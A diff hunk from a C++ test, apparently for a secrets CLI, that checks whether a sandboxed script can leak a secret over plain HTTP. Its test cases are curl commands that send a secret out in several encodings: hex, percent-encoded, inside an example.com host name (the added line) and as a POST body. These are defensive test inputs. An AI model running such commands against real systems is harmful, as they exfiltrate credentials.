@@ -206,6 +206,8 @@ TEST_F(SecretsCliTest, ASandboxedScriptUsesASecretOverPlainHttpWithoutSeeingIt) 
             "(base64)"},
            {"curl -sS 'http://" + bound_host + "/?q=" + hex + "'", "(hex)"},
            {"curl -sS 'http://" + bound_host + "/?q=sk-test%2DQ7f3LmZx9Kp2Wd8Rt5Yb'", "(percent)"},
+           {"curl -sS --connect-timeout 5 http://" + kValue + ".example.com/",
+            "was in the host name"},
            {"curl -sS -d 'AKIAIOSFODNN7EXAMPLE' http://" + bound_host + "/",
             "secret-shaped string (SECRET_AWS_ACCESS_KEY_ID)"}}) {
     auto leak =
